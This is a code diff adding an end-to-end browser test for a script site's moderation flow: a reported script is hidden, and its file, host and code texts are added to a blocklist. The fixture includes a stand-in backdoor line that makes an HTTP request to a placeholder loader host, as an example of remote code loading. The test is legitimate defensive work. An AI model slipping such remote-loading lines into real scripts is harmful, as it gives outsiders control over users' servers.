@@ -1,5 +1,6 @@
 import { expect, type Locator, type Page } from '@playwright/test'
 
+import { zipOf } from '#test-support/archives/zip.ts'
 import { requireSuccess } from '#test-support/http-client.ts'
 
 import { expectNoViolations } from './axe.ts'
@@ -208,4 +209,53 @@ test('a visitor who reports signs in first; the queue is empty, filtered and exp
   await staff.goto('/admin')
   await expect(staff.getByText(/No case waits\.|cases? waits?/)).toBeVisible()
   await staff.close()
+})
+
+test('a decision puts a file, a host and texts of the reported script on the blocklist', async ({
+  browser,
+}) => {
+  const author = await app.register('author', 'verified')
+  const name = uniqueName('Loader')
+  const files = Array.from({ length: 24 }, (_, n) => ({
+    name: `loader/f${n}.lua`,
+    content: `print(${n})`,
+    deflate: true,
+  }))
+  const content = "PerformHttpRequest('https://cdn.loader.example/x', function() end)"
+  const loader = { name: 'loader/server.lua', content, deflate: true }
+  const id = await app.publish(author, name, zipOf([...files, loader]))
+  const reporter = await app.register('reporter')
+  const { body } = await requireSuccess(app.url, reporter, 'POST', '/api/cases', {
+    kind: 'report',
+    scriptId: id,
+    reason: 'backdoor',
+    text: 'It loads code from another server.',
+  })
+  const page = await app.openPage(browser, app.site, `/admin/moderation/${body.id}?kind=report`)
+  await expect(page.getByText('Claimed by you until')).toBeVisible()
+  const form = page.getByRole('form', { name: 'Decision' })
+  await form.getByRole('radio', { name: /^Hide the script/ }).check()
+  await form.getByRole('combobox', { name: 'Reason' }).selectOption('backdoor')
+  await form.getByText('Files', { exact: true }).click()
+  await form.getByRole('searchbox', { name: 'Find a file' }).fill('server')
+  await form.getByRole('checkbox', { name: /server\.lua/ }).check()
+  await form.getByText('Hosts', { exact: true }).click()
+  await form.getByRole('checkbox', { name: 'cdn.loader.example' }).check()
+  await form.getByRole('textbox', { name: 'Response' }).fill('It loads code from another server.')
+  const texts = form.getByRole('textbox', { name: /^Texts of the code/ })
+  await texts.fill('short')
+  await expectNoViolations(page, [1440, 390])
+  await page.setViewportSize({ width: 1440, height: 900 })
+  await form.getByRole('button', { name: 'Hide the script' }).click()
+  await expect(texts).toHaveAccessibleDescription(/A text must be 8 to 200 characters/)
+  await texts.fill('loader_token = 1\nloader_token = 2')
+  await form.getByRole('button', { name: 'Hide the script' }).click()
+  await expect(page.getByText('No report waits for a decision.')).toBeVisible()
+
+  await page.goto('/admin/moderation/blocklist')
+  const entries = page.getByRole('listitem').filter({ hasText: `Case #${body.id}` })
+  for (const text of ['cdn.loader.example', 'loader_token = 1', 'loader_token = 2'])
+    await expect(entries.filter({ hasText: text })).toHaveCount(1)
+  await expect(entries).toHaveCount(4)
+  await page.close()
 })
